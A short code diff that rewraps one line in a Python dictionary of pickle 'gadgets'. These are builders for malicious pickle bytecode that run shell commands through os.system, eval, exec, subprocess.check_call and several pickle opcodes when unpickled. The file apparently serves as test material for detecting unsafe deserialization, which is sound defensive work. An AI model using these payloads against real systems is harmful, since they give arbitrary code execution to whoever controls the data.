@@ -52,7 +52,8 @@ GADGETS = {
     "builtins.eval": lambda s: call(name("builtins", "eval"), source(s)),
     "builtins.exec under Python 2's name": lambda s: call(name("__builtin__", "exec"), source(s)),
     "subprocess.check_call": lambda s: call(name("subprocess", "check_call"), b"]" + mark(text("touch"), text(str(s))) + b"e"),
-    "nested reduce": lambda s: call(call(name("builtins", "getattr"), call(name("importlib", "import_module"), text("os")), text("system")), shell(s)),
+    "nested reduce": lambda s: call(
+        call(name("builtins", "getattr"), call(name("importlib", "import_module"), text("os")), text("system")), shell(s)),
     "STACK_GLOBAL": lambda s: text("os") + text("system") + b"\x93" + tuple_of(shell(s)) + b"R",
     "INST": lambda s: mark(shell(s)) + b"ios\nsystem\n",
     "OBJ": lambda s: mark(name("os", "system"), shell(s)) + b"o",
